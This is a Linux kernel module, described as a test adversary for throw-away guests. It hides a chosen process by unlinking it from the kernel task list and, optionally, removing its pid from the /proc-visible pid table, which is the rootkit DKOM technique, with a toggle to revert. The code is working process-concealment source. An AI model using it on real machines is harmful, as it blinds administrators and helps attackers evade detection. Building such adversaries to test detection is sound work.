// SPDX-License-Identifier: GPL-2.0
/*
 * A test adversary: unlinks one process from the kernel's list of tasks, and links it again.
 * For throw-away guests only; see README.md.
 *
 * Technique: direct kernel object manipulation (the FU rootkit, 2004, on Windows).  The process
 * keeps running, for the scheduler does not use that list.  With from_ps=1 its pid leaves the pid
 * namespace's table as well, which is what /proc, and so ps, is read from.
 */
#include <linux/idr.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/stop_machine.h>

static int pid;
module_param(pid, int, 0444);
MODULE_PARM_DESC(pid, "process to hide, as the initial pid namespace numbers it");

static bool from_ps;
module_param(from_ps, bool, 0444);
MODULE_PARM_DESC(from_ps, "hide it from /proc too");

static struct task_struct *task;
static struct pid *task_pid_entry;
static bool active;

/*
 * Both run while every other CPU waits, which no reader of the list does inside a loop over it on
 * a kernel that is not preemptible: tasklist_lock itself is not exported.
 */
static int hide(void *unused)
{
	list_del_rcu(&task->tasks);
	/* The task may end while hidden: its own list_del_rcu() then finds a list of one. */
	INIT_LIST_HEAD(&task->tasks);
	if (from_ps)
		idr_remove(&init_pid_ns.idr, pid);
	return 0;
}

static int show(void *unused)
{
	if (task->exit_state)
		return 0;
	list_add_tail_rcu(&task->tasks, &init_task.tasks);
	if (from_ps)
		idr_alloc(&init_pid_ns.idr, task_pid_entry, pid, pid + 1, GFP_ATOMIC);
	return 0;
}

static int set_active(const char *value, const struct kernel_param *kp)
{
	bool wanted;
	int error = kstrtobool(value, &wanted);

	if (error || wanted == active)
		return error;
	if (!task) /* given on insmod's command line: too early */
		return -EAGAIN;
	stop_machine(wanted ? hide : show, NULL, NULL);
	active = wanted;
	return 0;
}

static const struct kernel_param_ops active_ops = { .set = set_active, .get = param_get_bool };
module_param_cb(active, &active_ops, &active, 0644);
MODULE_PARM_DESC(active, "1 hides, 0 reverts");

static int __init hide_task_init(void)
{
	task_pid_entry = find_get_pid(pid);
	task = get_pid_task(task_pid_entry, PIDTYPE_TGID);
	if (!task) {
		put_pid(task_pid_entry);
		return -ESRCH;
	}
	return 0;
}

static void __exit hide_task_exit(void)
{
	if (active)
		stop_machine(show, NULL, NULL);
	put_task_struct(task);
	put_pid(task_pid_entry);
}

module_init(hide_task_init);
module_exit(hide_task_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("test adversary: hides one process");
